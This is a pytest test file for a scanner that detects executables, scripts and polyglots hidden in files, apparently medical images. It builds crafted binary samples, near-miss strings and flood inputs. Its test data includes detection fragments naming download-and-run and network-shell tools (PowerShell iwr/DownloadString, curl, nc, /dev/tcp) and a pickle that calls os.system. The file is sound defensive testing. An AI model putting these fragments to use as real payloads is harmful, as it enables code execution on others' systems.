def test_decoys_do_not_hide_the_objects_of_a_pdf() -> None:
    spread = b"%PDF-1.7\n" + b" obj" * 5000 + b"\n1 0 obj\n<<>>\nendobj\n" + bytes(5000)
    assert finding(bytes(132) + spread, "pdf").id == "POLY-PDF"
    near = b"%PDF-1.7\n" + b" obj" * 1000 + b"\n1   0   obj\n<<>>\nendobj\n" + bytes(5000)
    assert finding(bytes(2000) + near, "pdf").id == "EMB-PDF"


def test_a_pdf_at_the_start_is_found_by_a_trailer_anywhere() -> None:
    spread = b"%PDF-1.7\n" + bytes(2 << 20) + b"startxref\n0\n%%EOF\r\n"
    hit = finding(bytes(132) + spread + bytes(5000), "pdf")
    assert (hit.id, hit.payload.end) == ("POLY-PDF", 132 + len(spread))


def test_a_pdf_that_is_one_whole_value_is_a_report_and_not_the_file() -> None:
    report = make_pdf()
    data = bytes(300) + report + BACK * 100
    ends = 300 + len(report)
    assert finding(data, "pdf", 300, ends).id == "EMB-PDF"
    assert finding(data, "pdf", 300, 310).id == "POLY-PDF"  # the rest of it lies elsewhere
    assert finding(data, "pdf", 290, ends).id == "POLY-PDF"  # it begins within the value
    assert finding(data[:ends], "pdf", 300, ends).id == "POLY-PDF"  # nothing follows it
    assert finding(report + BACK, "pdf", 0, len(report)).id == "POLY-PDF"  # in the preamble


def test_an_installer_and_macros_are_named() -> None:
    installer = bytearray(make_ole())
    installer[512 + 80 : 512 + 96] = bytes.fromhex("84100c0000000000c000000000000046")
    assert finding(bytes(installer), "ole").payload.description == "Windows Installer package"
    macros = make_ole(stream="_VBA_PROJECT_CUR")
    assert finding(macros, "ole").payload.description == "OLE compound file with macros"


def test_an_ole_header_whose_directory_is_missing_is_not_confirmed() -> None:
    hit = finding(make_ole()[:512], "ole")
    assert (hit.payload.confirmed, hit.payload.description) == (False, "OLE compound file")


def test_a_shortcut_with_reserved_fields_in_use_is_not_confirmed() -> None:
    assert not finding(make_lnk(reserved=1), "lnk").payload.confirmed


@pytest.mark.parametrize(
    ("offset", "new"), [(26, b"\5"), (28, b"\0\0"), (30, b"\xff\xff"), (32, b"\5")]
)
def test_an_ole_file_with_an_odd_header_is_found_but_not_confirmed(offset: int, new: bytes) -> None:
    hit = finding(altered(make_ole(), offset, new), "ole")
    assert (hit.payload.confirmed, hit.payload.description) == (False, "Word document")


def test_a_shortcut_with_undefined_flags_is_not_confirmed() -> None:
    assert not finding(make_lnk(flags=0x080000A3), "lnk").payload.confirmed


def test_an_elf_for_a_machine_that_nobody_knows_is_not_confirmed() -> None:
    hit = finding(altered(make_elf32_big_endian(), 18, b"\x7f\x7f"), "elf")
    assert (hit.payload.confirmed, hit.payload.end) == (False, 100)
    assert "unknown machine" in hit.payload.description


def test_a_macho_of_many_load_commands_is_one() -> None:
    commands = make_macho()[32:104] + struct.pack("<2I", 2, 8) * 2000
    header = altered(make_macho()[:32], 16, struct.pack("<2I", 2001, len(commands)))
    assert finding(header + commands, "macho").payload.confirmed


def test_a_class_with_a_broken_pool_far_in_reaches_to_the_end_of_its_value() -> None:
    header = b"\xca\xfe\xba\xbe" + struct.pack(">3H", 0, 61, 1000)
    data = header + b"\3\0\0\0\0" * 10 + b"\xff" * 50
    assert finding(data + BACK, "java_class", 0, len(data)).payload.end == len(data)
    assert findings(header + b"\3\0\0\0\0" * 5 + b"\xff" * 50) == []


# --- what must not fire ---------------------------------------------------------------------------


def altered(data: bytes, offset: int, new: bytes) -> bytes:
    return data[:offset] + new + data[offset + len(new) :]


# Each has a trigger of its rule in it, which the validator must refuse.
NEAR_MISSES: dict[str, tuple[str, bytes]] = {
    "pe: no optional header": ("pe", b"MZ" + bytes(500) + b"PE\0\0\x4c\1" + bytes(500)),
    "pe: an object's characteristics": (
        "pe", altered(real_pe(), pe_header(real_pe()) + 22, b"\0\0"),
    ),
    "pe: no sections": ("pe", altered(real_pe(), pe_header(real_pe()) + 6, b"\0\0")),
    "elf: magic alone": ("elf", b"\x7fELF" + bytes(200)),
    "elf: unknown machine and nothing to load": (
        "elf", altered(altered(make_elf32_big_endian(), 18, b"\x7f\x7f"), 55, b"\2"),
    ),
    "elf: program headers of odd size": ("elf", altered(make_elf32_big_endian(), 42, b"\0\x21")),
    "elf: program headers past the end": ("elf", make_elf32_big_endian()[:60]),
    "macho: magic alone": ("macho", b"\xcf\xfa\xed\xfe" + bytes(100)),
    "macho: unknown processor": ("macho", altered(make_macho(), 4, b"\x63\0\0\0")),
    "macho: a command longer than all": ("macho", altered(make_macho(), 36, b"\xff\xff\0\0")),
    "universal: a slice that is none": ("macho", altered(make_universal(), 0x100, bytes(4))),
    "universal: a Java class": ("macho", make_class()),
    "class: a universal Mach-O": ("java_class", make_universal()),
    "class: unknown constant": ("java_class", altered(make_class(), 10, b"\2")),
    "class: pool past the end": ("java_class", make_class()[:40]),
    "lnk: another header size": ("lnk", altered(make_lnk(), 1, b"\1")),
    "lnk: cut short": ("lnk", make_lnk()[:70]),
    "zip: end record of nothing": ("zip", b"PK\5\6" + bytes(18)),
    "zip: end record alone": ("zip", make_zip("a")[-22:]),
    "zip: an entry's signature alone": ("zip", b"PK\1\2" + make_zip("a")[-22:]),
    "zip: a JAR": ("zip", make_zip("META-INF/MANIFEST.MF")),
    "jar: a plain ZIP": ("jar", make_zip("META-INF/manifest.xml")),
    "rar4: wrong checksum": ("rar", altered(make_rar4(), 7, b"\0\0")),
    "rar5: wrong checksum": ("rar", altered(make_rar5(), 8, b"\0\0")),
    "tar: wrong checksum": ("tar", altered(make_tar("a"), 0, b"b")),
    "disk image: nothing behind its descriptor": (
        "disk_image", bytes(0x8000) + iso_descriptors()[:2048] + bytes(2048),
    ),
    "dex: longer than the data": ("dex", make_dex()[:-1]),
    "dex: another byte order": ("dex", altered(make_dex(), 40, b"\x12\x34\x56\x78")),
    "wasm: no section": ("wasm", b"\0asm\1\0\0\0\x7f\1"),
    "pyc: no code": ("pyc", b"\xa7\x0d\x0d\x0a" + bytes(20)),
    "7z: wrong checksum": ("sevenzip", altered(make_7z(), 8, b"\0\0")),
    "cab: unknown version": ("cab", make_cab(version=b"\3\2")),
    "cab: a file in no folder": ("cab", make_cab(folder=7)),
    "cab: longer than the data": ("cab", make_cab()[:-1]),
    "pdf: header alone": ("pdf", b"%PDF-1.7 is the format of the report"),
    "pdf: an object by name only": ("pdf", b"%PDF-1.7 object, 1 0 objects, 10obj"),
    "ole: cut short": ("ole", make_ole()[:60]),
    "shebang: not at the start": ("shebang", b"note: #!/bin/sh\n"),
    "shebang: a byte that is no blank": ("shebang", b"#!/bin/sh\xe9\n"),
    "shebang: binary": ("shebang", b"#!/2CLIJ\x1d7.66\t0Si/\x14'4E\x0c#"),
    "powershell: mentioned": ("powershell", b"Please run powershell - then call IT"),
    "powershell: a request alone": ("powershell", b"see iwr -useb in the manual | index"),
    "powershell: one word twice": ("powershell", b"DownloadString( DownloadFile("),
    "powershell: told of": ("powershell", b"user ran powershell -File import.ps1 and it failed"),
    "batch: told of": ("batch", b"C:\\temp %TEMP%\\scan.log path; run cmd /c dir to list"),
    "shell: exercises": ("shell", b"uses curl -up exercises; base64 -data; chmod 755 n/a"),
    "shell: a manual": ("shell", b"wget -q http://server/protocol | see also sh shell"),
    "html: quoted": ("html_script", b"Discussion of <script> tags; see document.write( ) there"),
    "html: a library": (
        "html_script", b'<html><script src="https://cdn.jsdelivr.net/npm/a.js"></script>',
    ),
    "python: one word": ("python", b"import os; the eval( of it"[:10] + b"thing"),
    "python: prose": ("python", b"data from os x; import requests by fax"),
    "perl: prose": ("perl", b"the system 'A' will use strict isolation"[:16]),
    "node: another module": ("node", b"require('child_process"),
    "shebang: told of": ("shebang", b"it begins with #!/bin/sh\nand goes on"),
    "shebang: nothing behind": ("shebang", b"\xff#!/bin/sh\n\xff\xff"),
    "batch: a tool's name": ("batch", b"certutil is not installed"),
    "batch: one word": ("batch", b"path is %TEMP%\\export"),
    "vbs: one word": ("windows_script", b"CreateObject failed"),
    "html: an element of XML": ("html_script", b'<?xml version="1.0"?><ScriptName>a</ScriptName>'),
    "html: a script of another XML": (
        "html_script", b'<a1:ExamCard/><Script type="macro">SetProtocol(1)</Script>',
    ),
    "html: a handler of nothing": ("html_script", b"onError=Stop"),
    "html: a link": ("html_script", b"javascript:void 0"),
    "php: a short tag before text": ("php", b"<?= `a` <b> system is down"),
    "php: an XML target": ("php", b"<?phpdoc version='1'?>"),
    "shell: one word": ("shell", b"see curl http://example.org/manual"),
    "shell: the words of a plot": ("shell", b"div curl - chmod nc - "),
    "shell: a device": ("shell", b"/dev/tcp/ is not a file"),
}  # fmt: skip


@pytest.mark.parametrize(("rule", "data"), NEAR_MISSES.values(), ids=NEAR_MISSES)
def test_a_near_miss_triggers_and_is_refused(rule: str, data: bytes) -> None:
    assert rule in {name for name, _, _ in triggers(data)}
    assert [hit for hit in findings(data) if hit.rule == rule] == []


HONEST = {
    "MZ in noise": b"MZ\x90\0" * 50,
    "Siemens CSA": b"SV10\4\3\2\1" + bytes(64) + b"XSPE\0\0\x4c\1" + bytes(100),
    "GE protocol block": struct.pack("<I", 40) + b"\x1f\x8b\x08\x08" + bytes(36),
    "local header alone": b"PK\3\4" + bytes(60),
    "XProtocol": b'<XProtocol> { <Name> "PhoenixMetaProtocol" <ParamBool."IsInlineComposed"> { } }',
    "vendor XML": b'<?xml version="1.0"?><Path>C:\\MRMPlus\\tmp\\current_file</Path>',
    "GE JSON": b'{"ver":1,"grx":[{"typ":"eval","fn":"new-object"}]}',
    "text": b"Observer's Name: O'Brien; > 18 yrs; SAG > TRA-1.5 > COR-0.3 <MPR Collection>",
    "address": b"https://github.com/fedorov/dcmqi.git",
    "Siemens program": b"MosaicDecorator.EXE xmlns='http://schemas.microsoft.com/winfx/2006/xaml'",
    "plain text in Base64": base64.b64encode(b"The quick brown fox jumps over the lazy dog" * 5),
    "the stub with another ending": b"This program cannot be run in DOS box",
}


@pytest.mark.parametrize("data", HONEST.values(), ids=HONEST)
def test_honest_bytes_stay_silent(data: bytes) -> None:
    assert findings(data) == []


def test_two_words_in_different_values_are_no_script() -> None:
    one, other = b"set a=%TEMP%\\export", b"\r\ncmd.exe /c dir"
    assert findings(one + other, 0, len(one)) == []
    assert {hit.id for hit in findings(one + other)} == {"POLY-SCRIPT-NOSHEBANG"}


# --- nothing breaks a validator -------------------------------------------------------------------

MAGICS = [
    b"MZ", b"PE\0\0\x4c\1", b"\x7fELF", b"\xfe\xed\xfa\xcf", b"\xca\xfe\xba\xbe", LNK_ID,
    b"PK\5\6", b"PK\6\6", b"PK\6\7", b"PK\1\2", b"PK\3\4", b"Rar!\x1a\x07\x00",
    b"Rar!\x1a\x07\x01\x00", b"7z\xbc\xaf\x27\x1c", b"MSCF" + bytes(4), b"%PDF-", b" 0 obj",
    b"%%EOF", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"#!/bin/sh", STUB, xor(STUB, 7), b"<?php ",
    b"<script>", b"eval(", b"@echo off\n", b"New-Object ", b"N\0e\0w\0-\0O\0b\0j\0e\0c\0t\0 \0",
    b"\xff" * 8,
]  # fmt: skip
SMALL = [
    make_elf32_big_endian(), make_elf_object(), make_macho(), make_macho(">", wide=False),
    make_universal(), make_class(), make_lnk(flags=0xFF), make_zip("a", "__main__.py"),
    make_rar4(), make_rar5(), make_7z(), make_cab(), make_ole(), make_pdf(), real_pe()[:1024],
    POWERSHELL, xor(real_pe()[:1024], 7),
]  # fmt: skip


def assert_sound(data: bytes, hit: int, low: int, high: int) -> None:
    for name, validator in VALIDATORS.items():
        payload = validator(data, hit, low, high)
        if payload is not None:
            assert 0 <= payload.start <= hit < payload.end <= len(data), name
            assert payload.description.isprintable(), name


@given(st.lists(st.sampled_from(MAGICS) | st.binary(max_size=24), min_size=1), st.data())
def test_arbitrary_bytes_with_magics_in_them_never_break_a_validator(
    parts: list[bytes], draw: st.DataObject
) -> None:
    data = b"".join(parts) or b"\0"
    hit = draw.draw(st.sampled_from([sum(map(len, parts[:n])) for n in range(len(parts))]))
    hit = min(hit, len(data) - 1)
    low = draw.draw(st.integers(0, hit))
    assert_sound(data, hit, low, draw.draw(st.integers(hit + 1, len(data))))


@given(st.sampled_from(SMALL), st.binary(max_size=8), st.data())
@settings(max_examples=400)
def test_altered_files_never_break_a_validator(
    content: bytes, front: bytes, draw: st.DataObject
) -> None:
    data = bytearray(front + content)
    for offset in draw.draw(st.lists(st.integers(len(front), len(data) - 1), max_size=6)):
        data[offset] = draw.draw(st.sampled_from([0, 1, 0x7F, 0x80, 0xFF]))
    altered_data = bytes(data[: draw.draw(st.integers(len(front) + 1, len(data)))])
    hits = [len(front)] + [offset for _, offset, _ in triggers(altered_data)]
    for hit in hits:
        assert_sound(altered_data, hit, min(len(front), hit), len(altered_data))


def zip_flood(records: int) -> bytes:
    """End records that share one directory whose members lead nowhere."""
    member = struct.pack("<4s6H3I5H2I", b"PK\1\2", *[0] * 9, 1000, *[0] * 6) + b"x" * 1000
    front, directory = make_zip("a"), member * 256
    return (
        front
        + directory
        + b"".join(
            b"PK\5\6"
            + struct.pack("<4H2IH", 0, 0, 256, 256, len(directory) + 22 * n, len(front), 0)
            for n in range(records)
        )
    )


def universal_flood() -> bytes:
    """Universal headers whose 44 slices are all one Mach-O of 999 commands."""
    commands = struct.pack("<2I", 2, 8) * 999
    thin = struct.pack("<8I", 0xFEEDFACF, 0x0100000C, 0, 2, 999, len(commands), 0, 0) + commands
    slices = struct.pack(">5I", 0x0100000C, 0, 900, len(thin), 0) * 44
    return ((b"\xca\xfe\xba\xbe\0\0\0\x2c" + slices).ljust(900, b"\0") + thin) * (FLOOD // 4)


FLOOD = 10_000  # as many answers as the engine asks of a validator
FLOODS: dict[str, tuple[str, bytes, Callable[[], bytes]]] = {
    "PE headers behind decoys": (
        "pe", b"PE\0\0", lambda: (b"MZ" * 400 + real_pe()[pe_header(real_pe()) :][:504]) * FLOOD,
    ),
    "end records of one directory": ("zip", b"PK\5\6", lambda: zip_flood(FLOOD)),
    "slices of one program": ("macho", b"\xca\xfe\xba\xbe", universal_flood),
    "one word again and again": (
        "windows_script", b"WScript.S", lambda: (b"WScript.Shell " + b"a" * 200) * FLOOD,
    ),
    "one word in UTF-16": (
        "windows_script", "WScript.S".encode("utf-16-le"),
        lambda: ("WScript.Shell " + "a" * 200).encode("utf-16-le") * FLOOD,
    ),
    "PDF headers": ("pdf", b"%PDF-", lambda: b"%PDF-" * FLOOD + b" obj" * (1 << 22)),
}  # fmt: skip


@pytest.mark.timeout(30)
@pytest.mark.parametrize(("name", "trigger", "make"), FLOODS.values(), ids=FLOODS)
def test_a_flood_of_triggers_costs_seconds(
    name: str, trigger: bytes, make: Callable[[], bytes]
) -> None:
    """An answer that read the data anew for each trigger would take hours here."""
    data = make()
    hit = -1
    for _ in range(FLOOD):
        hit = data.find(trigger, hit + 1)
        if hit < 0:
            break
        VALIDATORS[name](data, hit, 0, len(data))


def class_flood() -> bytes:
    """Class headers in the constants of one another's pools, of which every one ends badly."""
    magic = b"\xca\xfe\xba\xbe\0\0\0\x34\xff\xff"
    unit = b"\1" + struct.pack(">H", len(magic)) + magic
    return (unit * 8 + b"\2") * (REFUSED // 8)


def misaligned_pe_flood() -> bytes:
    """NT headers that no loader takes, each behind many decoys of its MZ header."""
    original = real_pe()
    headers = altered(original[pe_header(original) :][:300], 56, b"\1\2\3\4\5\6\7\0")
    return (b"MZ" * 100 + headers) * REFUSED


REFUSED = 50_000
REFUSALS: dict[str, tuple[str, bytes, Callable[[], bytes]]] = {
    "PE headers that no loader takes": ("pe", b"PE\0\0", misaligned_pe_flood),
    "ELF magics": ("elf", b"\x7fELF", lambda: b"\x7fELF" * REFUSED),
    "class headers in one another": ("java_class", b"\xca\xfe\xba\xbe", class_flood),
    "end records of one directory": (
        "jar", b"PK\5\6", lambda: zip_flood(REFUSED),
    ),
    "RAR headers of a false checksum": (
        "rar", b"Rar!", lambda: b"Rar!\x1a\7\1\0aaaa\x80\x07\1\0" * REFUSED,
    ),
    "PDF headers in one value": ("pdf", b"%PDF-", lambda: b"%PDF- 1 obj obj 0 " * REFUSED),
    "one word in UTF-16": (
        "powershell", b"N\0e\0w\0-\0", lambda: "New-Object ".encode("utf-16-le") * REFUSED,
    ),
    "requests without a pipe": ("powershell", b"iwr ", lambda: b"iwr " * REFUSED),
    "handlers of nothing": ("html", b"onload", lambda: b"onload=a(;" * REFUSED),
}  # fmt: skip


@pytest.mark.parametrize(("name", "trigger", "make"), REFUSALS.values(), ids=REFUSALS)
def test_a_refusal_costs_the_same_however_many_there_are(
    name: str, trigger: bytes, make: Callable[[], bytes]
) -> None:
    """Of twenty times as much, a look at all that is around costs 400 times as much."""
    data = make()
    hits = [match.start() for match in re.finditer(re.escape(trigger), data)][-REFUSED:]
    assert len(hits) == REFUSED

    def cost(hits: list[int]) -> float:
        part = data[: hits[-1] + 1000]  # what is remembered is of one data
        started = time.process_time()
        assert not any(VALIDATORS[name](part, hit, 0, len(part)) for hit in hits)
        return time.process_time() - started

    some = max(cost(hits[: REFUSED // 20]) for _ in range(3))
    assert cost(hits) < 100 * some


def test_what_is_remembered_of_one_data_is_not_told_of_another() -> None:
    report = bytes(2000) + make_pdf() + bytes(9000)
    other = bytes(2000) + b"%PDF-1.7\n" + bytes(len(report))
    for _ in range(2):
        assert {hit.id for hit in findings(report)} == {"EMB-PDF"}
        assert findings(other) == []


# --- the pack itself ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", sorted(RULES.glob("*.yar")), ids=lambda path: path.name)
def test_a_rule_file_compiles_without_a_warning_under_both_engines(path: Path) -> None:
    compiler = yara_x.Compiler()
    compiler.add_source(path.read_text())
    assert compiler.warnings() == []
    yara = pytest.importorskip("yara")
    yara.compile(filepath=str(path), error_on_warning=True, includes=False)


@pytest.mark.parametrize("name", sorted(metas()))
def test_a_rule_says_everything_that_its_finding_needs(name: str) -> None:
    meta = metas()[name]
    assert set(meta) >= REQUIRED_META
    assert set(meta) <= REQUIRED_META | OPTIONAL_META
    assert all(isinstance(value, str) and value for value in meta.values())
    assert meta["category"] in set(Category)
    assert meta["severity"] in {str(severity) for severity in Severity}
    assert meta.get("polyglot_severity", "high") in {str(severity) for severity in Severity}
    assert meta["confidence"] in {str(confidence) for confidence in Confidence}
    assert meta["where"] in PLACES
    assert meta["id"].startswith(("EMB-", "DOC-"))
    assert meta.get("polyglot", "POLY-X").startswith("POLY-")


def test_every_validator_is_used_and_every_one_used_exists() -> None:
    assert {meta["validator"] for meta in metas().values() if "validator" in meta} == set(
        VALIDATORS
    )


def test_every_rule_has_something_that_fires_it_and_a_near_miss() -> None:
    elsewhere = {"dos_stub", "base64_program", "eicar"} | {
        sample.rule for sample in (*ACTIVE.values(), *HONEST_DOCUMENTS.values())
    }
    assert {sample.rule for sample in SAMPLES.values()} == set(metas()) - elsewhere
    assert {rule for rule, _ in NEAR_MISSES.values()} == set(metas()) - elsewhere


def test_both_engines_match_at_the_same_places() -> None:
    yara = pytest.importorskip("yara")
    rules = yara.compile(filepaths={path.stem: str(path) for path in RULES.glob("*.yar")})
    data = FRONT.join(
        [sample.make() for name, sample in SAMPLES.items() if name != "zip64"]
        + [xor(STUB, 9), base64.b64encode(STUB), EICAR]
    )
    theirs = {
        (match.rule, instance.offset, instance.matched_length)
        for match in rules.match(data=data)
        for string in match.strings
        for instance in string.instances
    }
    assert set(triggers(data)) == theirs


def test_a_pickle_with_an_escape_that_python_does_not_know() -> None:
    """Python warns of it, which is nobody's concern here."""
    data = b"cos\nsystem\n(S'id\\ '\ntR."
    report = scan_bytes(data, "note.dcm")
    assert any("os.system" in each.detail for each in report.findings)
